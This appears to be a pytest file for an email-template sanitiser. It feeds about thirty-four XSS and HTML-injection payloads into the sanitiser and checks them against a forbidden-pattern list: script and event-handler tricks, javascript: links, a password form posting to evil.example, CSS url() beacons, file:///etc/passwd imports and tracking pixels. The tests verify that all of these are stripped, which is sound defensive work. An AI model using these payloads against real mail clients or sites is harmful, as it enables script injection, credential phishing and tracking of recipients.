"""HTML that an author or the data may bring into a mail; nothing of it reaches a reader."""

import re

import pytest

from templates import catalogue, composition, mail
from templates.composition import Options

EVENT = catalogue.event_type("mission.created")
HOSTS = frozenset({"img.example.org"})

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": "<p onclick=alert(1)>x</p><img src=x onerror=alert(1)>",
    "a javascript link": '<a href="javascript:alert(1)">x</a>',
    "a javascript link in pieces": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a javascript link in capitals": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "a data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "a vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "a link without scheme": "<a href='//evil.example/x'>x</a>",
    "an unquoted attribute": "<a title=x onmouseover=alert(1) href=https://ok.example>x</a>",
    "a base": "<base href='https://evil.example/'>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a form": "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "an svg": "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "an iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "a style sheet elsewhere": "<link rel=stylesheet href=https://evil.example/x.css>",
    "a style sheet in a file": "<link rel=stylesheet href=file:///etc/passwd>",
    "an import": "<style>@import url('https://evil.example/x.css'); p{color:red}</style><p>x</p>",
    "an import of a file": "<style>@import 'file:///etc/passwd';</style><p>x</p>",
    "a url in a style": "<p style='background:url(https://evil.example/p)'>x</p>",
    "a url in a sheet": "<style>p{background-image:url(https://evil.example/p)}</style><p>x</p>",
    "an escaped url": r"<p style='background-color:u\72l(https://evil.example/p)'>x</p>",
    "an expression": "<p style='width:expression(alert(1))'>x</p>",
    "a cover over the page": "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
    "a comment for old readers": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "a tracking picture": "<img src='https://evil.example/p.gif'>",
    "a picture by http": "<img src='http://img.example.org/p.gif'>",
    "a picture with user": "<img src='https://img.example.org@evil.example/p.gif'>",
    "a picture on another port": "<img src='https://img.example.org:8443/p.gif'>",
    "a picture set": "<img srcset='https://evil.example/p.gif 2x' src=x>",
    "a template element": "<template><img src=x onerror=alert(1)></template>",
    "a title that closes": "<title></title><script>alert(1)</script>",
}
FORBIDDEN = (
    "<script", "javascript:", "vbscript:", "data:", "evil.example", "<base",
    "http-equiv", "<form", "<input", "<button", "<svg", "<math", "<iframe", "<object", "<embed",
    "<link", "<style",
    "@import", "url(", "file:", "root:", "expression", "position", "onclick", "onerror", "onload",
    "<!--", "srcset", "<template", "http://", ":8443",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_a_mail_must_not_hold_is_taken_out(attack: str) -> None:
    clean = mail.sanitised(mail.inlined(f"<p>before</p>{attack}"), image_hosts=HOSTS)

    assert "before" in clean
    assert not [word for word in FORBIDDEN if word in clean.lower()], clean


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_markup_in_the_data_stays_text(attack: str) -> None:
    data = EVENT.sample("mail")
    data["mission"]["title"] = attack
    sources = {
        "subject": "s",
        "text": "{{ mission.title }}",
        "html": "<p title='{{ mission.title }}'>{{ mission.title }}</p>",
    }

    html = composition.compose("mail", sources, data, Options()).html
    content = html.split('<div dir="auto">')[1].split("</div>")[0]

    assert content.count("<") == 2, content


def test_a_mail_loads_nothing_from_anywhere() -> None:
    whole = composition.compose("mail", EVENT.default("mail"), EVENT.sample("mail"), Options()).html

    for loading in ("<link", "@import", "url(", "src=", "background=", "googleapis"):
        assert loading not in whole
    addresses = re.findall(r"https?://[^\s\"'<>)]+", whole)
    assert set(addresses) <= {"http://www.w3.org/1999/xhtml"}  # a name, which nothing loads


def test_a_value_cannot_leave_an_unquoted_attribute_for_a_handler() -> None:
    data = EVENT.sample("mail")
    data["mission"]["title"] = "x onmouseover=alert(1)"
    sources = {"subject": "s", "text": "t", "html": "<p title={{ mission.title }}>x</p>"}

    assert "onmouseover" not in composition.compose("mail", sources, data, Options()).html


def test_what_mails_are_made_of_stays() -> None:
    fragment = (
        "<style>.big { font-size: 20px }</style>"
        '<h1 class="big">Hi</h1><a href="https://ok.example/a?b=1">x</a>'
        '<img src="https://img.example.org/logo.png" alt="Logo" width="20">'
    )

    clean = mail.sanitised(mail.inlined(fragment), image_hosts=HOSTS)

    assert 'style="font-size:20px"' in clean.replace(": ", ":").replace(';"', '"')
    assert 'href="https://ok.example/a?b=1"' in clean
    assert 'src="https://img.example.org/logo.png"' in clean
